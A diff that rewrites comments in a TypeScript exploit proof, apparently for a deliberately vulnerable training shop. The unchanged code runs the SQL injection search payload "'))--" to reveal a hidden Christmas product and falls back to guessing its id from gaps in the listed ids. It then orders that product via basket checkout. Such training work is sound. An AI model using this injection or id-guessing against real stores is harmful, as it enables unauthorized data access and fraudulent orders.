@@ -14,7 +14,7 @@ async function search(attacker: Attacker, term: string): Promise<Product[]> {
 }
 
 const isSpecial = ({ name }: Product) => /christmas/i.test(name)
-/** Numbers of products that the search leaves out, from the first to the last that it shows. */
+/** Returns the ids that are missing from a search for all products. */
 async function gaps(attacker: Attacker): Promise<number[]> {
   const shown = new Set((await search(attacker, '')).map(({ id }) => id))
   return Array.from({ length: Math.max(...shown) }, (_, index) => index + 1).filter((id) => !shown.has(id))
@@ -27,7 +27,7 @@ async function checkOut(attacker: Attacker, basketId: number) {
   return attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
 }
 
-/** Orders products as a new customer. @param items in place of the numbers of products: what is sent */
+/** Orders products as a new customer. @param items product ids, or the fields to send instead of an id */
 async function order(attacker: Attacker, ...items: readonly (number | object)[]) {
   const { basketId } = await attacker.becomeCustomer()
   for (const item of items)
@@ -35,7 +35,7 @@ async function order(attacker: Attacker, ...items: readonly (number | object)[])
   return checkOut(attacker, basketId)
 }
 
-/** Orders what a search finds that is called after Christmas. */
+/** Searches for a term and orders the Christmas special if it is among the results. */
 const found = (term: string) => async (attacker: Attacker) => {
   const special = (await search(attacker, term)).find(isSpecial)
   if (special) await order(attacker, special.id)
@@ -43,7 +43,7 @@ const found = (term: string) => async (attacker: Attacker) => {
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // Where the search does not tell, the gap between the numbers of products does.
+    // If the search does not return the product, its id is the first gap in the product ids.
     const special = (await search(attacker, "'))--")).find(isSpecial)
     await order(attacker, special?.id ?? (await gaps(attacker))[0]!)
   },
